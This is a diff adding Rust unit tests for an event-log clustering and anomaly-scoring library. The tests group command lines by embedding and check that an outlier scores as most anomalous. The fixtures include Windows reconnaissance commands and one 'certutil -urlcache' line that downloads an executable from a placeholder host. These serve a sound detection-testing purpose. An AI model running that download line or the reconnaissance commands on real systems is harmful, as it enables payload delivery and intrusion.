@@ -0,0 +1,92 @@
+use std::collections::HashMap;
+use evtx_clustering::anomaly::{AnomalyMethod, AnomalyScorer};
+use evtx_clustering::cluster::{ClusterOptions, get_cluster_mapping, get_embedding_matrix};
+use evtx_clustering::distance::DistanceMetric;
+use evtx_clustering::embedding::ValueEmbedding;
+use evtx_clustering::provider::response_from_vectors;
+
+
+/// Two groups of commands around different vectors and one command far from both.
+fn value_embeddings() -> Vec<ValueEmbedding> {
+    rendered_embeddings("")
+}
+
+
+/// The `value_embeddings` commands, each rendered after a `prefix`.
+fn rendered_embeddings(prefix: &str) -> Vec<ValueEmbedding> {
+    let values = [
+        ("whoami", [1.0, 0.0]),
+        ("whoami /all", [0.99, 0.01]),
+        ("whoami /priv", [0.98, 0.02]),
+        ("net user", [0.0, 1.0]),
+        ("net user /domain", [0.01, 0.99]),
+        ("net user administrator", [0.02, 0.98]),
+        ("certutil -urlcache -f http://x/a.exe", [-1.0, -1.0]),
+    ];
+    values.into_iter()
+        .map(|(value, vector)| {
+            let response = response_from_vectors("test", vec![vector.to_vec()], 1).unwrap();
+            ValueEmbedding::new(format!("{prefix}{value}"), response)
+        })
+        .collect()
+}
+
+
+#[test]
+fn test_cluster_mapping() {
+    let options = ClusterOptions::dbscan(2, 0.1)
+        .with_metric(DistanceMetric::L2)
+        .with_exemplars(2)
+        .with_anomaly(AnomalyScorer::new(AnomalyMethod::Medoid, 2));
+    let mapping = get_cluster_mapping(value_embeddings(), &options).unwrap();
+
+    let clusters: Vec<i64> = mapping.df.column("cluster").unwrap()
+        .i64().unwrap()
+        .into_no_null_iter()
+        .collect();
+    assert_eq!(clusters, vec![0, 0, 0, 1, 1, 1, -1]);
+    assert_eq!(mapping.summary.height(), 2);
+    assert!(mapping.metrics.silhouette.unwrap() > 0.9);
+
+    let medoids: Vec<&str> = mapping.summary.column("medoid").unwrap()
+        .str().unwrap()
+        .into_no_null_iter()
+        .collect();
+    assert_eq!(medoids, vec!["whoami /all", "net user /domain"]);
+
+    // The outlier is the most anomalous value
+    let scores: Vec<f32> = mapping.df.column("anomaly_score").unwrap()
+        .f32().unwrap()
+        .into_no_null_iter()
+        .collect();
+    let rank = (0..scores.len()).max_by(|a, b| scores[*a].total_cmp(&scores[*b])).unwrap();
+    assert_eq!(rank, 6);
+}
+
+
+#[test]
+fn test_cluster_mapping_all_noise() {
+    // Without clusters the medoid anomaly score falls back to the knn score
+    let options = ClusterOptions::dbscan(5, 0.001)
+        .with_metric(DistanceMetric::L2)
+        .with_anomaly(AnomalyScorer::new(AnomalyMethod::Medoid, 2));
+    let mapping = get_cluster_mapping(value_embeddings(), &options).unwrap();
+    assert_eq!(mapping.summary.height(), 0);
+    assert_eq!(mapping.df.column("anomaly_score").unwrap().null_count(), 0);
+}
+
+
+#[test]
+fn test_embedding_matrix_commands() {
+    // The lexical features of rendered inputs are computed from their command lines
+    let value_embeddings = value_embeddings();
+    let rendered = rendered_embeddings("host-1 | ");
+    let commands: HashMap<String, String> = rendered.iter()
+        .zip(&value_embeddings)
+        .map(|(r, v)| (r.value.clone(), v.value.clone()))
+        .collect();
+
+    let expected = get_embedding_matrix(&value_embeddings, Some(0.5), None).unwrap();
+    assert_eq!(get_embedding_matrix(&rendered, Some(0.5), Some(&commands)).unwrap(), expected);
+    assert_ne!(get_embedding_matrix(&rendered, Some(0.5), None).unwrap(), expected);
+}